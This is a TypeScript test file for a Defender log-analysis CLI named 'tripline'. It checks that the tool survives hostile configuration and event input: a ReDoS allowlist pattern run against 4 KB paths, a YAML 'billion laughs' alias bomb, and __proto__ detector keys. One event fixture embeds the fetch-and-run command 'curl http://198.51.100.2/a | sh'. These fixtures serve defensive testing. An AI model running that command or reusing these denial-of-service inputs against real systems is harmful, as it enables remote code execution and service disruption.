import { join } from 'node:path';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import { assertBuilt, cronLogon, tempDir, tripline } from './helpers.js';

vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

let dir: string;
const file = (name: string) => join(dir, name);

/** 20 script events whose script path is 4 KB of `/tmp/` segments (a hostile device's own data). */
function longScriptPaths(): string {
  const lines: string[] = [];
  for (let i = 0; i < 20; i++) {
    const properties = {
      Timestamp: `2025-11-21T01:00:${String(i).padStart(2, '0')}Z`,
      DeviceId: '6164762d686f73742e636f6e746f736f2e746573',
      DeviceName: 'adv-host',
      ActionType: 'ScriptContent',
      ReportId: 7000 + i,
      FolderPath: `${'/tmp/'.repeat(800)}s${i}`,
      FileName: `run${i}`,
      InitiatingProcessFileName: 'sh',
      AdditionalFields: JSON.stringify({ ScriptContent: '#!/bin/sh\ncurl http://198.51.100.2/a | sh\n' }),
    };
    lines.push(JSON.stringify({ category: 'AdvancedHunting-DeviceEvents', properties }));
  }
  return `${lines.join('\n')}\n`;
}

/** A YAML "billion laughs": nine levels of aliases, each repeating the one before nine times. */
function aliasBomb(): string {
  const lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
  const names = 'abcdefghi';
  for (let i = 1; i < names.length; i++) {
    const prev = names[i - 1];
    lines.push(`${names[i]}: &${names[i]} [${Array(9).fill(`*${prev}`).join(',')}]`);
  }
  return `${lines.join('\n')}\n`;
}

beforeAll(() => {
  assertBuilt();
  dir = tempDir({
    'cron.ndjson': `${cronLogon('1', '2025-03-04T11:17:01Z')}\n`,
    'redos.ndjson': longScriptPaths(),
    // Five stars over 4 KB keys that never match: backtracking would try every way to split each key.
    'allow.yaml': 'allowlist:\n  - key: "path:*/tmp/*/tmp/*/tmp/*/*.sh"\n    reason: build scripts in temp folders\n',
    'typo-logged-on.yaml':
      'detectors:\n  defender/anomalous-logged-on-user:\n    options:\n      extraGenericNmes: ["admin"]\n',
    'typo-device-type.json': JSON.stringify({
      detectors: { 'defender/device-type-mismatch': { options: { extraServerProcess: ['nginx'] } } },
    }),
    'proto.yaml': 'detectors:\n  __proto__:\n    enabled: false\n',
    'proto.json': '{"detectors":{"__proto__":{"enabled":false}}}',
    'bomb.yaml': aliasBomb(),
  });
});

function expectConfigError(r: { code: number | null; stdout: string; stderr: string }, message: RegExp): void {
  expect(r.code).toBe(2);
  expect(r.stdout).toBe('');
  const lines = r.stderr.trimEnd().split('\n');
  expect(lines).toHaveLength(1);
  expect(lines[0]).toMatch(message);
  expect(r.stderr).not.toMatch(/internal error/);
}

describe.concurrent('tripline analyze --config: nothing hangs, nothing is ignored', () => {
  // No clock in the assertion: a linear matcher reads each key once, while a backtracking one's work
  // grows with a power of the key length per star; the test's timeout tells them apart under any load.
  it('an allowlist pattern against 4 KB attacker-written keys does not hang', { timeout: 180_000 }, async () => {
    const r = await tripline(['analyze', '-q', '-f', 'json', '-c', file('allow.yaml'), file('redos.ndjson')]);
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout).summary.eventsAnalyzed).toBe(20);
  });

  it('a typo in the options of defender/anomalous-logged-on-user is an error', async () => {
    expectConfigError(
      await tripline(['analyze', '-c', file('typo-logged-on.yaml'), file('cron.ndjson')]),
      /^tripline: invalid configuration: detectors\.defender\/anomalous-logged-on-user\.options\.extraGenericNmes: unknown key$/,
    );
  });

  it('a typo in the options of defender/device-type-mismatch is an error', async () => {
    expectConfigError(
      await tripline(['analyze', '-c', file('typo-device-type.json'), file('cron.ndjson')]),
      /^tripline: invalid configuration: detectors\.defender\/device-type-mismatch\.options\.extraServerProcess: unknown key$/,
    );
  });

  it('detectors.__proto__ is "no detector with this id", in YAML and JSON', async () => {
    for (const name of ['proto.yaml', 'proto.json']) {
      expectConfigError(
        await tripline(['analyze', '-c', file(name), file('cron.ndjson')]),
        /^tripline: invalid configuration: detectors\.__proto__: no detector with this id is loaded/,
      );
    }
  });

  it('a YAML alias bomb is an invalid configuration with the reason', async () => {
    expectConfigError(
      await tripline(['analyze', '-c', file('bomb.yaml'), file('cron.ndjson')]),
      /^tripline: invalid configuration: .*bomb\.yaml: not valid YAML: Excessive alias count/,
    );
  });
});
